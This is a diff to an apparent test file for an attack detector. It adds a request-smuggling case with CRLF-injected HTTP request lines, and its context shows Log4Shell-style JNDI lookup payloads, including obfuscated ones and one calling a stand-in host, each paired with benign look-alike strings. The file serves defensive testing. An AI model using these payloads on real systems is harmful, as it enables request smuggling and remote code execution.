@@ -105,6 +105,11 @@ CASES: tuple[Case, ...] = (
          "She said \"it's fine\" -- but it wasn't.", "We need a 1=1 mapping", "Cancel the union dues", "Size 10 or true to size?"),
     ),
     Case(
+        "RequestSmuggling",
+        ("x\r\nPOST /admin HTTP/1.1", "abcGET /b.html HTTP/1.0", "v=\nHEAD http://example.com/ HTTP/1.1"),
+        ("use the GET verb over HTTP/1.1", "a budget of 5 http/2 calls", "POST /api/v1/users returns 201", "HTTP/2 get post head"),
+    ),
+    Case(
         "Log4JRCE",
         ("${jndi:ldap://evil.example/a}", "${${lower:j}ndi:dns://x}", "${${::-j}${::-n}di:rmi://x/a}"),
         ("${HOME} is set", "price: $ {100}", "jndi is a Java API"),
